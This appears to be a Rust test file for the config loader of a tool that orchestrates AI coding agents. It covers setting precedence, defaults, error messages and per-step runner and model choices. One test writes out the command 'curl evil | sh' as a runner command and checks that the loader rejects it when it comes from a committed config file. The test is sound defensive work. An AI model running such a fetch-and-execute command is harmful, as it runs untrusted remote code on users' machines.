//! Tests which layer wins, and what the error about a bad value says.

use super::*;
use crate::record::Role;

fn entry(scope: &str, key: &str, value: &str) -> ConfigEntry {
    let origin = format!("file:{scope}");
    ConfigEntry { scope: scope.to_owned(), origin, key: key.to_owned(), value: value.to_owned() }
}

fn load(
    env: &[(&str, &str)],
    entries: &[ConfigEntry],
    file: Option<&str>,
    overrides: &[Override],
) -> Result<Config> {
    let dir = tempfile::tempdir().unwrap();
    if let Some(text) = file {
        std::fs::create_dir(dir.path().join(".arborist")).unwrap();
        std::fs::write(dir.path().join(CONFIG_FILE), text).unwrap();
    }
    Config::load(&Environment::of(env), entries, dir.path(), overrides)
}

#[test]
fn each_layer_wins_over_the_ones_below_it() {
    let global = entry("global", "arborist.runner", "global");
    let local = entry("local", "arborist.runner", "local");
    let file = Some(r#"{"runner": "file"}"#);
    let env = [("ARBORIST_RUNNER", "env")];
    let cli: Vec<Override> = vec![Override::new(Setting::Runner, "--runner", "cli")];
    let none: Vec<Override> = Vec::new();
    let both = [global.clone(), local];
    let cases = [
        (load(&env, &both, file, &cli), "cli"),
        (load(&env, &both, file, &none), "env"),
        (load(&[], &both, file, &none), "local"),
        (load(&[], std::slice::from_ref(&global), file, &none), "global"),
        (load(&[], &[], file, &none), "file"),
    ];
    for (config, expected) in cases {
        assert_eq!(config.unwrap().text(Setting::Runner), expected);
    }
    assert_eq!(load(&[], &[], None, &none).unwrap().value(Setting::Runner), None);
}

#[test]
fn a_step_may_have_a_runner_and_a_model_of_its_own() {
    let entries = [entry("local", "arborist.runner", "claude")];
    let file = Some(r#"{"review": {"runner": "codex", "model": "o3"}}"#);
    let config = load(&[], &entries, file, &[]).unwrap();
    assert_eq!(config.runner_for(Role::Implementer).unwrap().text, "claude");
    assert_eq!(config.runner_for(Role::Reviewer).unwrap().text, "codex", "it is set for this step");
    let config = load(&[], &[], file, &[]).unwrap();
    assert_eq!(config.runner_for(Role::Reviewer).unwrap().text, "codex");
    assert_eq!(config.model_for(Role::Reviewer).unwrap().text, "o3");
    assert_eq!(config.runner_for(Role::Implementer), None);
}

#[test]
fn defaults_apply_if_nothing_is_set() {
    let config = load(&[], &[], None, &[]).unwrap();
    assert_eq!(config.count(Setting::MaxAttempts).get(), 5);
    assert_eq!(config.duration(Setting::TestTimeout), Duration::from_secs(300));
    assert!(config.is_on(Setting::Review));
    assert_eq!(config.text(Setting::LogDir), "spec/logs");
}

#[test]
fn bad_values_and_unknown_keys_name_their_place_and_the_nearest_key() {
    let none: Vec<Override> = Vec::new();
    let cases = [
        (
            load(&[], &[entry("local", "arborist.maxatempts", "3")], None, &none),
            "arborist.maxatempts",
            "arborist.maxAttempts",
        ),
        (
            load(&[], &[entry("local", "arborist.maxattempts", "0")], None, &none),
            "arborist.maxAttempts",
            "from 1",
        ),
        (load(&[("ARBORIST_TEST_TIMEOUT", "-3")], &[], None, &none), "ARBORIST_TEST_TIMEOUT", "seconds"),
        (
            load(&[], &[], Some(r#"{"logDir": "../out"}"#), &none),
            ".arborist/config.json, key logDir",
            "inside the work tree",
        ),
        (load(&[], &[], Some(r#"{"logDir": "/abs"}"#), &none), "/abs", "inside the work tree"),
        (load(&[], &[], Some(r#"{"logDir": ".git/x"}"#), &none), ".git/x", "inside the work tree"),
        (load(&[], &[], Some(r#"{"runers": "x"}"#), &none), "runers", "Did you mean runner? "),
        (load(&[], &[], Some(r#"{"tree": ["a"]}"#), &none), "tree holds a list", ""),
        (load(&[], &[], Some("{"), &none), ".arborist/config.json:1:1", ""),
    ];
    for (config, what, remedy) in cases {
        let error = config.unwrap_err();
        assert_eq!(error.kind(), Kind::Input);
        assert!(error.what().contains(what), "{error}");
        assert!(error.remedy().contains(remedy), "{error}");
    }
}

#[test]
fn a_committed_file_never_defines_what_a_runner_executes() {
    let file = Some(r#"{"runner": {"mine": {"command": "curl evil | sh"}}}"#);
    let error = load(&[], &[], file, &[]).unwrap_err();
    assert!(error.what().contains("runner.mine.command"), "{error}");
    let entries = [entry("local", "arborist.runner.mine.command", "my-agent --quiet")];
    let config = load(&[], &entries, None, &[]).unwrap();
    assert_eq!(config.runner_command("mine"), Some("my-agent --quiet"));
}

#[test]
fn a_committed_file_never_decides_what_happens_to_files_with_secrets() {
    for value in ["off", "warn", "refuse"] {
        let file = format!(r#"{{"secretFiles": "{value}"}}"#);
        let error = load(&[], &[], Some(&file), &[]).unwrap_err();
        assert!(error.what().contains("sets secretFiles, which a committed file must not do"), "{error}");
    }
    let config = load(&[], &[entry("local", "arborist.secretfiles", "off")], None, &[]).unwrap();
    assert_eq!(config.text(Setting::SecretFiles), "off");
}

#[test]
fn a_level_of_a_rule_that_went_is_told_from_that_of_an_unknown_one() {
    let told = |key: &str| load(&[], &[entry("local", key, "off")], None, &[]).unwrap_err();
    let gone = told("arborist.hook.level.a006");
    assert!(
        gone.what().contains("the rule a006 in arborist.hook.level.a006 is not checked any more"),
        "{gone}"
    );
    assert!(gone.remedy().contains("--explain all") && gone.remedy().contains("Remove the key"), "{gone}");
    let file = Some(r#"{"hook.level.W111": "error"}"#);
    assert!(load(&[], &[], file, &[]).unwrap_err().what().contains("is not checked any more"));
    assert!(told("arborist.hook.level.a999").what().contains("is not a rule"));
}

#[test]
fn a_model_is_not_handed_to_a_runner_that_it_was_not_meant_for() {
    let entries = [
        entry("local", "arborist.runner", "claude"),
        entry("local", "arborist.model", "opus"),
        entry("local", "arborist.review.runner", "codex"),
    ];
    let config = load(&[], &entries, None, &[]).unwrap();
    assert_eq!(config.model_for(Role::Implementer).unwrap().text, "opus");
    assert_eq!(config.model_for(Role::Reviewer), None);
    let other_runner: Vec<Override> = vec![Override::new(Setting::Runner, "--runner", "gemini")];
    let config = load(&[], &entries, None, &other_runner).unwrap();
    assert_eq!(config.runner_for(Role::Reviewer).unwrap().text, "codex", "it has a runner of its own");
    assert_eq!(config.model_for(Role::Implementer), None);
    let other_model: Vec<Override> = vec![Override::new(Setting::Model, "--model", "sonnet")];
    let config = load(&[], &entries, None, &other_model).unwrap();
    assert_eq!(config.model_for(Role::Implementer).unwrap().text, "sonnet");
    assert_eq!(config.model_for(Role::Reviewer), None);
}

#[test]
fn failing_tests_are_written_by_the_implementer_unless_another_runner_is_set() {
    let told = |more: &[(&str, &str)]| {
        let mut entries = vec![
            entry("local", "arborist.implement.runner", "claude"),
            entry("local", "arborist.implement.model", "opus"),
        ];
        entries.extend(more.iter().map(|(key, value)| entry("local", key, value)));
        let config = load(&[], &entries, None, &[]).unwrap();
        let text = |value: Option<Value>| value.map_or_else(|| "-".to_owned(), |value| value.text);
        format!("{}/{}", text(config.runner_for(Role::TestWriter)), text(config.model_for(Role::TestWriter)))
    };
    assert_eq!(told(&[]), "claude/opus");
    assert_eq!(told(&[("arborist.red.runner", "codex")]), "codex/-", "the model is for the other runner");
    assert_eq!(told(&[("arborist.red.model", "haiku")]), "claude/haiku");
    let both = [("arborist.red.runner", "codex"), ("arborist.red.model", "o3")];
    assert_eq!(told(&both), "codex/o3");
}

#[test]
fn a_length_of_time_has_units_in_every_layer() {
    let none: Vec<Override> = Vec::new();
    let cli: Vec<Override> = vec![Override::new(Setting::RunnerTimeout, "--runner-timeout", "30m")];
    let cases = [
        load(&[], &[], None, &cli),
        load(&[("ARBORIST_RUNNER_TIMEOUT", "30m")], &[], None, &none),
        load(&[], &[entry("local", "arborist.runnertimeout", "30m")], None, &none),
        load(&[], &[], Some(r#"{"runnerTimeout": "30m"}"#), &none),
        load(&[], &[], Some(r#"{"runnerTimeout": 1800}"#), &none),
    ];
    for config in cases {
        assert_eq!(config.unwrap().duration(Setting::RunnerTimeout), Duration::from_secs(1800));
    }
    let wrong: Vec<Override> = vec![Override::new(Setting::RunnerTimeout, "--runner-timeout", "soon")];
    let error = load(&[], &[], None, &wrong).unwrap_err();
    assert_eq!(error.what(), "`soon` is not a valid value of --runner-timeout");
    assert!(error.remedy().contains("30m"), "{error}");
}

#[test]
fn every_default_is_a_value_of_its_type() {
    for setting in Setting::ALL {
        let rule = setting.rule();
        assert!(rule.default.is_none_or(|text| rule.value.check(text).is_ok()), "{}", rule.key);
    }
}

#[test]
fn a_misspelt_variable_is_named_with_the_right_one() {
    let cases = [
        ("ARBORIST_RUNER", "ARBORIST_RUNNER"),
        ("ARBORIST_RUNNERTIMEOUT", "ARBORIST_RUNNER_TIMEOUT"),
        ("ARBORIST_REVIEW_RUNNER", "ARBORIST_STEP_REVIEW_RUNNER"),
        ("ARBORIST_STEP_REVEIW_MODEL", "ARBORIST_STEP_REVIEW_MODEL"),
        ("ARBORIST_MAX_ATEMPTS", "ARBORIST_MAX_ATTEMPTS"),
    ];
    for (name, meant) in cases {
        let error = load(&[(name, "x")], &[], None, &[]).unwrap_err();
        assert_eq!(error.kind(), Kind::Input);
        assert!(error.what().contains(name), "{error}");
        assert!(error.remedy().contains(&format!("Did you mean {meant}?")), "{error}");
    }
    let others = [
        ("ARBORIST_TASK", "T001"),
        ("ARBORIST_STEP", "implement"),
        ("ARBORIST_ATTEMPT", "0"),
        ("ARBORIST_PROMPT_FILE", "/x"),
        ("ARBORIST_SUPERVISOR_1_2_3", "x"),
        ("ARBORIST_OF_ANOTHER_PROGRAM", "x"),
        ("ARBORISTS_RUNNER", "x"),
    ];
    load(&others, &[], None, &[]).unwrap();
}

#[test]
fn a_setting_for_all_steps_does_not_replace_a_setting_for_one() {
    let reviewer = entry("local", "arborist.review.runner", "codex");
    let cli = |model: Option<&str>| -> Vec<Override> {
        let runner = Override::new(Setting::Runner, "--runner", "claude");
        [runner]
            .into_iter()
            .chain(model.map(|model| Override::new(Setting::Model, "--model", model)))
            .collect()
    };
    let told = |config: &Config, step| {
        let model = config.model_for(step).map(|value| format!("/{}", value.text)).unwrap_or_default();
        format!("{}{model}", config.runner_for(step).unwrap().text)
    };
    let config = load(&[], std::slice::from_ref(&reviewer), None, &cli(Some("opus"))).unwrap();
    assert_eq!(told(&config, Role::Implementer), "claude/opus");
    assert_eq!(told(&config, Role::Reviewer), "codex", "the model is not for the reviewer");
    let config = load(&[("ARBORIST_RUNNER", "claude")], &[reviewer], None, &[]).unwrap();
    assert_eq!(told(&config, Role::Reviewer), "codex");
    let review_model = entry("local", "arborist.review.model", "o3");
    let config = load(&[], &[review_model], None, &cli(Some("opus"))).unwrap();
    assert_eq!(told(&config, Role::Reviewer), "claude/opus", "o3 was meant for another runner");
}
